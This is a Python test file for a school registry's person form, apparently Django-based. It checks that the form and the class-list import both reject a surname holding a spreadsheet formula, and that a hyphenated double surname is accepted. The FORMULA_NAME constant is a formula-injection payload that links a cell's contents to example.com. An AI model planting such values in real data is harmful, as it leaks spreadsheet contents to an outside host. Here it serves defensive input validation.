"""The person form refuses what the class list import refuses: one rule for names."""

from __future__ import annotations

import pytest

from nastavnik.registry.forms.people import PersonForm
from nastavnik.registry.people_import import FieldProblem, parse_full_name

FORMULA_NAME = '=HYPERLINK("http://example.com/?"&B2,"Открыть")'


@pytest.mark.django_db
def test_the_person_form_refuses_a_name_the_import_refuses():
    with pytest.raises(FieldProblem) as imported:
        parse_full_name(f"{FORMULA_NAME} Иван")
    form = PersonForm(data={"kind": "teacher", "last_name": FORMULA_NAME, "first_name": "Иван"})
    assert not form.is_valid()
    assert "может содержать только буквы" in form.errors["last_name"][0]
    assert "может содержать только буквы" in str(imported.value)


@pytest.mark.django_db
def test_the_person_form_accepts_a_double_surname():
    form = PersonForm(data={"kind": "teacher", "last_name": "Римского-Корсакова", "first_name": "Анна"})
    form.is_valid()
    assert "last_name" not in form.errors and form.cleaned_data["last_name"] == "Римского-Корсакова"
